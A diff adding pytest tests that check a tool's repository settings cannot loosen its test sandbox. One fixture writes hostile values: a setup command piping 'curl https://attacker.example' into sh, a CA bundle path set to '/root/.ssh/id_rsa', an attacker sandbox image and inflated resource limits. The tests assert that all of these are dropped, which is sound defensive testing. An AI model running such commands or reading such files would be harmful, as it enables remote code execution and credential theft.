@@ -278,3 +278,46 @@ def test_invalid_model_settings_name_the_file_and_the_problem(tmp_path, body, me
 def test_invalid_model_flags_are_rejected(tmp_path, flags, message):
     with pytest.raises(ConfigError, match=message):
         build_config(tmp_path, flags)
+
+
+def test_the_repository_settings_cannot_loosen_the_sandbox(tmp_path):
+    """[tool.selfheal] is part of the code under suspicion: it may say how the tests run, never
+    how they are contained. What would loosen the sandbox is dropped, with a note for the report."""
+    write_pyproject(
+        tmp_path,
+        "[tool.selfheal]\n"
+        'test-command = "python -m pytest -q"\n'
+        "namespaces = false\n"
+        'sandbox = "local"\n'
+        'sandbox-image = "attacker/image"\n'
+        'setup-command = "curl https://attacker.example | sh"\n'
+        'sandbox-ca-bundle = "/root/.ssh/id_rsa"\n'
+        'python = "/home/alice/.local/bin/python3"\n'
+        "memory-mb = 65536\n"
+        "max-processes = 100000\n"
+        "disk-mb = 1000000\n"
+        "cpus = 64\n"
+        "timeout = 900\n",
+    )
+    config = build_config(tmp_path, {})
+    assert config.test_command == "python -m pytest -q"  # how the tests run: the repository's say
+    assert config.timeout == 900
+    assert (config.namespaces, config.sandbox, config.sandbox_image) == (True, "auto", None)
+    assert (config.setup_command, config.sandbox_ca_bundle, config.python) == (None, None, None)
+    assert (config.memory_mb, config.max_processes, config.disk_mb, config.cpus) == (2048, 256, 1024, 2.0)
+    notes = config.extra["setting_notes"]
+    assert len(notes) == 10
+    assert (
+        "[tool.selfheal] namespaces = false ignored: only the caller can turn the sandbox's namespaces off"
+        in (" ".join(notes))
+    )
+    assert any(n.startswith("[tool.selfheal] memory-mb = 65536 lowered to 2048") for n in notes)
+
+
+def test_the_repository_may_tighten_the_sandbox_and_the_caller_may_loosen_it(tmp_path):
+    write_pyproject(tmp_path, "[tool.selfheal]\nmemory-mb = 512\nmax-processes = 64\ndisk-mb = 100\n")
+    tightened = build_config(tmp_path, {})
+    assert (tightened.memory_mb, tightened.max_processes, tightened.disk_mb) == (512, 64, 100)
+    assert "setting_notes" not in tightened.extra
+    loosened = build_config(tmp_path, {"namespaces": False, "disk_mb": 4096, "sandbox": "local"})
+    assert (loosened.namespaces, loosened.disk_mb, loosened.sandbox) == (False, 4096, "local")
